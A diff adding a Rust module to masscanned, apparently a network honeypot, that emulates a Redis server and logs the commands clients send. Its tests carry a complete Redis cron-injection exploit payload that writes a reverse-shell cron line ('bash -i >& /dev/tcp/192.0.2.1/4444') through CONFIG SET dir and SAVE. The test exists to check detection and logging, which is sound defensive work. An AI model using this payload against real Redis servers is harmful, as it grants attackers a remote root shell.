@@ -0,0 +1,461 @@
+// This file is part of masscanned.
+// Copyright 2021 - The IVRE project
+//
+// Masscanned is free software: you can redistribute it and/or modify it
+// under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// (at your option) any later version.
+//
+// Masscanned is distributed in the hope that it will be useful, but WITHOUT
+// ANY WARRANTY; without even the implied warranty of MERCHANTABILITY
+// or FITNESS FOR A PARTICULAR PURPOSE.  See the GNU General Public
+// License for more details.
+//
+// You should have received a copy of the GNU General Public License
+// along with Masscanned. If not, see <http://www.gnu.org/licenses/>.
+
+use log::*;
+use serde::Deserialize;
+use serde_json::Value;
+
+use crate::client::ClientInfo;
+use crate::logger::Event;
+use crate::proto::tcb::{ProtoState, TCPControlBlock};
+use crate::Masscanned;
+
+/* RESP arrays (commands sent by clients, e.g., redis-cli) */
+pub const REDIS_PATTERNS_ARRAY: [&[u8]; 9] = [
+    b"*1\r\n$", b"*2\r\n$", b"*3\r\n$", b"*4\r\n$", b"*5\r\n$", b"*6\r\n$", b"*7\r\n$", b"*8\r\n$",
+    b"*9\r\n$",
+];
+
+/* maximum size of the data kept between two segments, and number of
+ * arguments of a command */
+const REDIS_MAX_BUFFER: usize = 65536;
+const REDIS_MAX_ARGS: usize = 1024;
+
+#[derive(Deserialize, Copy, Clone, PartialEq, Debug, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum RedisAnswer {
+    #[default]
+    Ok,
+    Error,
+}
+
+/* Redis server: PING, INFO (the info block, by section), ECHO, COMMAND
+ * and CLIENT are answered, other commands get +OK or an unknown command
+ * error, depending on answer (with ok, exploits such as CONFIG SET dir,
+ * then SAVE, go on and are logged).
+ **/
+#[derive(Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct RedisConfig {
+    pub ports: Vec<u16>,
+    pub answer: RedisAnswer,
+    pub info: String,
+}
+
+impl Default for RedisConfig {
+    fn default() -> Self {
+        RedisConfig {
+            ports: vec![6379],
+            answer: RedisAnswer::Ok,
+            info: "# Server
+redis_version:7.2.4
+redis_git_sha1:00000000
+redis_git_dirty:0
+redis_mode:standalone
+os:Linux 5.15.0-91-generic x86_64
+arch_bits:64
+multiplexing_api:epoll
+gcc_version:11.4.0
+process_id:1
+tcp_port:6379
+uptime_in_seconds:1728141
+uptime_in_days:20
+
+# Clients
+connected_clients:1
+blocked_clients:0
+
+# Memory
+used_memory:1137432
+used_memory_human:1.08M
+maxmemory:0
+maxmemory_policy:noeviction
+
+# Persistence
+loading:0
+rdb_changes_since_last_save:0
+rdb_bgsave_in_progress:0
+aof_enabled:0
+
+# Replication
+role:master
+connected_slaves:0
+
+# Keyspace
+db0:keys=3,expires=0,avg_ttl=0
+"
+            .to_string(),
+        }
+    }
+}
+
+/* state of a Redis flow: data received, not a complete command yet */
+#[derive(Default)]
+pub struct RedisState {
+    buffer: Vec<u8>,
+}
+
+fn redis_line(data: &[u8]) -> Option<(&[u8], usize)> {
+    let end = data.iter().position(|c| *c == b'\n')?;
+    let line = &data[..end];
+    Some((line.strip_suffix(b"\r").unwrap_or(line), end + 1))
+}
+
+fn redis_int(data: &[u8]) -> Option<i64> {
+    std::str::from_utf8(data).ok()?.parse::<i64>().ok()
+}
+
+/* command received: arguments and number of bytes used */
+type RedisCommand = (Vec<Vec<u8>>, usize);
+
+/* next command: Ok(None) when data does not hold an entire command,
+ * Err on protocol errors */
+fn redis_command(data: &[u8]) -> Result<Option<RedisCommand>, &'static str> {
+    if data.first() != Some(&b'*') {
+        /* inline command */
+        return Ok(redis_line(data).map(|(line, len)| {
+            let args = line
+                .split(|c| c.is_ascii_whitespace())
+                .filter(|a| !a.is_empty())
+                .map(|a| a.to_vec())
+                .collect::<Vec<Vec<u8>>>();
+            (args, len)
+        }));
+    }
+    let (line, mut offset) = match redis_line(data) {
+        Some(l) => l,
+        None => return Ok(None),
+    };
+    let count = match redis_int(&line[1..]) {
+        Some(n) if n <= REDIS_MAX_ARGS as i64 => n,
+        _ => return Err("invalid multibulk length"),
+    };
+    let mut args = Vec::new();
+    for _ in 0..count {
+        let (line, len) = match redis_line(&data[offset..]) {
+            Some(l) => l,
+            None => return Ok(None),
+        };
+        if line.first() != Some(&b'$') {
+            return Err("expected '$'");
+        }
+        let size = match redis_int(&line[1..]) {
+            Some(n) if (0..=REDIS_MAX_BUFFER as i64).contains(&n) => n as usize,
+            _ => return Err("invalid bulk length"),
+        };
+        offset += len;
+        if data.len() < offset + size + 2 {
+            return Ok(None);
+        }
+        args.push(data[offset..offset + size].to_vec());
+        offset += size + 2;
+    }
+    Ok(Some((args, offset)))
+}
+
+fn redis_bulk(data: &[u8]) -> Vec<u8> {
+    let mut repl = format!("${}\r\n", data.len()).into_bytes();
+    repl.extend_from_slice(data);
+    repl.extend_from_slice(b"\r\n");
+    repl
+}
+
+/* sections of the info block: all of them, or the one asked for */
+fn redis_info(config: &RedisConfig, section: Option<&[u8]>) -> Vec<u8> {
+    let section = section
+        .map(|s| String::from_utf8_lossy(s).to_ascii_lowercase())
+        .filter(|s| !["all", "default", "everything"].contains(&s.as_str()));
+    let mut info = String::new();
+    for block in config.info.split("\n\n") {
+        let name = block.lines().next().unwrap_or("").trim_start_matches("# ");
+        if section
+            .as_ref()
+            .is_none_or(|s| name.eq_ignore_ascii_case(s))
+        {
+            if !info.is_empty() {
+                info.push_str("\r\n");
+            }
+            for line in block.lines().filter(|l| !l.is_empty()) {
+                info.push_str(line);
+                info.push_str("\r\n");
+            }
+        }
+    }
+    redis_bulk(info.as_bytes())
+}
+
+fn redis_event(args: &[Vec<u8>], client_info: &ClientInfo) -> Event {
+    let mut event = Event::new("redis_command", client_info);
+    event.set(
+        "command",
+        String::from_utf8_lossy(&args[0]).to_ascii_uppercase(),
+    );
+    event.set(
+        "args",
+        Value::Array(
+            args[1..]
+                .iter()
+                .map(|a| Value::String(String::from_utf8_lossy(a).to_string()))
+                .collect(),
+        ),
+    );
+    event
+}
+
+fn redis_answer(args: &[Vec<u8>], config: &RedisConfig, client_info: &mut ClientInfo) -> Vec<u8> {
+    let command = String::from_utf8_lossy(&args[0]).to_ascii_uppercase();
+    let sub = args
+        .get(1)
+        .map(|a| String::from_utf8_lossy(a).to_ascii_uppercase());
+    match (command.as_str(), sub.as_deref()) {
+        ("PING", None) => b"+PONG\r\n".to_vec(),
+        ("PING", Some(_)) | ("ECHO", Some(_)) => redis_bulk(&args[1]),
+        ("INFO", _) => redis_info(config, args.get(1).map(|a| &a[..])),
+        ("COMMAND", Some("COUNT")) => b":0\r\n".to_vec(),
+        ("COMMAND", _) => b"*0\r\n".to_vec(),
+        ("CLIENT", Some("GETNAME")) => b"$-1\r\n".to_vec(),
+        ("CLIENT", Some("ID")) => b":3\r\n".to_vec(),
+        ("CLIENT", Some("LIST")) | ("CLIENT", Some("INFO")) => {
+            let addr = match (client_info.ip.src, client_info.port.src) {
+                (Some(ip), Some(port)) => format!("{}:{}", ip, port),
+                _ => "127.0.0.1:6379".to_string(),
+            };
+            redis_bulk(
+                format!(
+                    "id=3 addr={} laddr=:6379 fd=8 name= age=0 idle=0 flags=N db=0 sub=0 psub=0 ssub=0 multi=-1 qbuf=0 qbuf-free=0 argv-mem=10 multi-mem=0 rbs=1024 rbp=0 obl=0 oll=0 omem=0 tot-mem=22400 events=r cmd=client|{} user=default redir=-1 resp=2 lib-name= lib-ver=\n",
+                    addr,
+                    sub.as_deref().unwrap_or("").to_ascii_lowercase()
+                )
+                .as_bytes(),
+            )
+        }
+        ("CONFIG", Some("GET")) => b"*0\r\n".to_vec(),
+        ("QUIT", _) => {
+            client_info.close = true;
+            b"+OK\r\n".to_vec()
+        }
+        _ if config.answer == RedisAnswer::Ok || command == "CLIENT" => b"+OK\r\n".to_vec(),
+        _ => {
+            let mut err = format!(
+                "-ERR unknown command '{}', with args beginning with: ",
+                String::from_utf8_lossy(&args[0])
+            );
+            for a in args[1..].iter() {
+                err.push_str(&format!("'{}' ", String::from_utf8_lossy(a)));
+            }
+            err.push_str("\r\n");
+            err.into_bytes()
+        }
+    }
+}
+
+pub fn repl(
+    data: &[u8],
+    masscanned: &Masscanned,
+    client_info: &mut ClientInfo,
+    mut tcb: Option<&mut TCPControlBlock>,
+) -> Option<Vec<u8>> {
+    debug!("receiving Redis data");
+    let config = &masscanned.config.redis;
+    let mut state = match tcb
+        .as_mut()
+        .map(|t| std::mem::replace(&mut t.proto_state, ProtoState::None))
+    {
+        Some(ProtoState::Redis(s)) => s,
+        _ => RedisState::default(),
+    };
+    state.buffer.extend_from_slice(data);
+    let mut repl_data = Vec::new();
+    /* every command is answered, in order */
+    while !client_info.close {
+        let (args, len) = match redis_command(&state.buffer) {
+            Ok(Some(c)) => c,
+            Ok(None) => break,
+            Err(e) => {
+                info!("Redis protocol error: {}", e);
+                repl_data.extend(format!("-ERR Protocol error: {}\r\n", e).into_bytes());
+                client_info.close = true;
+                break;
+            }
+        };
+        state.buffer.drain(..len);
+        if args.is_empty() {
+            continue;
+        }
+        warn!("Redis command: {}", String::from_utf8_lossy(&args[0]));
+        redis_event(&args, client_info).log();
+        repl_data.extend(redis_answer(&args, config, client_info));
+    }
+    if state.buffer.len() > REDIS_MAX_BUFFER {
+        info!(
+            "Redis command too large ({} bytes received) - dropped",
+            state.buffer.len()
+        );
+        client_info.close = true;
+    }
+    if let Some(t) = tcb {
+        t.proto_state = ProtoState::Redis(state);
+    }
+    if repl_data.is_empty() {
+        return None;
+    }
+    debug!("sending Redis data");
+    Some(repl_data)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::Config;
+    use crate::proto::test_util::masscanned;
+    use pnet::packet::ip::IpNextHeaderProtocols;
+    use std::str::FromStr;
+
+    fn redis_client_info(port: u16) -> ClientInfo {
+        let mut client_info = ClientInfo::new();
+        client_info.port.dst = Some(port);
+        client_info.transport = Some(IpNextHeaderProtocols::Tcp);
+        client_info
+    }
+
+    #[test]
+    fn test_redis_command() {
+        assert!(redis_command(b"PING\r\n").unwrap() == Some((vec![b"PING".to_vec()], 6)));
+        assert!(
+            redis_command(b"  get  key\n").unwrap()
+                == Some((vec![b"get".to_vec(), b"key".to_vec()], 11))
+        );
+        let data = b"*2\r\n$4\r\nECHO\r\n$5\r\na\r\nb!\r\n";
+        assert!(
+            redis_command(data).unwrap()
+                == Some((vec![b"ECHO".to_vec(), b"a\r\nb!".to_vec()], data.len()))
+        );
+        /* incomplete commands */
+        for i in 0..data.len() {
+            assert!(redis_command(&data[..i]).unwrap().is_none());
+        }
+        for data in [&b"*x\r\n"[..], b"*1\r\n+PING\r\n", b"*1\r\n$-2\r\n"].iter() {
+            assert!(redis_command(data).is_err());
+        }
+    }
+
+    #[test]
+    fn test_redis_inline_ping() {
+        let masscanned = masscanned(Config::default());
+        let mut client_info = redis_client_info(6379);
+        let mut tcb = TCPControlBlock::new();
+        /* inline commands are identified by the port */
+        let repl_data =
+            crate::proto::dispatch(b"PING\r\n", &masscanned, &mut client_info, Some(&mut tcb))
+                .unwrap();
+        assert!(repl_data == b"+PONG\r\n");
+        assert!(tcb.proto_id == crate::proto::PROTO_REDIS);
+        /* several commands, split across segments */
+        assert!(
+            crate::proto::dispatch(
+                b"PING hello\r\nECHO",
+                &masscanned,
+                &mut client_info,
+                Some(&mut tcb)
+            )
+            .unwrap()
+                == b"$5\r\nhello\r\n"
+        );
+        let repl_data = crate::proto::dispatch(
+            b" hi\r\nQUIT\r\nPING\r\n",
+            &masscanned,
+            &mut client_info,
+            Some(&mut tcb),
+        )
+        .unwrap();
+        assert!(repl_data == b"$2\r\nhi\r\n+OK\r\n");
+        assert!(client_info.close);
+    }
+
+    #[test]
+    fn test_redis_info() {
+        let masscanned = masscanned(Config::default());
+        /* RESP commands are identified on any port */
+        let mut client_info = redis_client_info(16379);
+        let mut tcb = TCPControlBlock::new();
+        let repl_data = crate::proto::dispatch(
+            b"*1\r\n$4\r\nINFO\r\n*2\r\n$4\r\nINFO\r\n$6\r\nserver\r\n",
+            &masscanned,
+            &mut client_info,
+            Some(&mut tcb),
+        )
+        .unwrap();
+        assert!(tcb.proto_id == crate::proto::PROTO_REDIS);
+        /* two bulk strings: every section, then the server one */
+        let (line, len) = redis_line(&repl_data).unwrap();
+        let size = redis_int(&line[1..]).unwrap() as usize;
+        let all = String::from_utf8_lossy(&repl_data[len..len + size]).to_string();
+        assert!(all.starts_with("# Server\r\nredis_version:7.2.4\r\n"));
+        assert!(all.contains("\r\n\r\n# Keyspace\r\ndb0:keys=3"));
+        let rest = &repl_data[len + size + 2..];
+        let (line, len) = redis_line(rest).unwrap();
+        let size = redis_int(&line[1..]).unwrap() as usize;
+        let server = String::from_utf8_lossy(&rest[len..len + size]).to_string();
+        assert!(rest.len() == len + size + 2);
+        assert!(all.starts_with(&server) && !server.contains("# Clients"));
+        /* configured info block */
+        let masscanned = self::masscanned(
+            Config::from_str("[redis]\ninfo = \"# Server\\nredis_version:2.8.4\\n\"\n").unwrap(),
+        );
+        assert!(
+            repl(b"INFO\r\n", &masscanned, &mut redis_client_info(6379), None).unwrap()
+                == b"$31\r\n# Server\r\nredis_version:2.8.4\r\n\r\n"
+        );
+    }
+
+    #[test]
+    fn test_redis_exploit() {
+        let masscanned = masscanned(Config::default());
+        let mut client_info = redis_client_info(6379);
+        /* cron job written through CONFIG SET and SAVE */
+        let payload = b"*1\r\n$8\r\nflushall\r\n*3\r\n$3\r\nset\r\n$1\r\n1\r\n$56\r\n\n\n*/1 * * * * bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n\n\n\r\n*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$4\r\nroot\r\n*1\r\n$4\r\nsave\r\n";
+        let repl_data = repl(payload, &masscanned, &mut client_info, None).unwrap();
+        assert!(repl_data == b"+OK\r\n+OK\r\n+OK\r\n+OK\r\n+OK\r\n");
+        let args = vec![
+            b"config".to_vec(),
+            b"set".to_vec(),
+            b"dir".to_vec(),
+            b"/var/spool/cron/".to_vec(),
+        ];
+        let event = redis_event(&args, &client_info);
+        assert!(event.fields["command"] == "CONFIG");
+        assert!(event.fields["args"] == serde_json::json!(["set", "dir", "/var/spool/cron/"]));
+        /* error policy */
+        let masscanned =
+            self::masscanned(Config::from_str("[redis]\nanswer = \"error\"\n").unwrap());
+        let repl_data = repl(
+            b"SLAVEOF 192.0.2.1 21000\r\nCLIENT SETNAME x\r\n",
+            &masscanned,
+            &mut client_info,
+            None,
+        )
+        .unwrap();
+        assert!(
+            repl_data
+                == b"-ERR unknown command 'SLAVEOF', with args beginning with: '192.0.2.1' '21000' \r\n+OK\r\n"
+        );
+        /* protocol errors close the connection */
+        let mut client_info = redis_client_info(6379);
+        let repl_data = repl(b"*1\r\n+PING\r\n", &masscanned, &mut client_info, None).unwrap();
+        assert!(repl_data == b"-ERR Protocol error: expected '$'\r\n");
+        assert!(client_info.close);
+    }
+}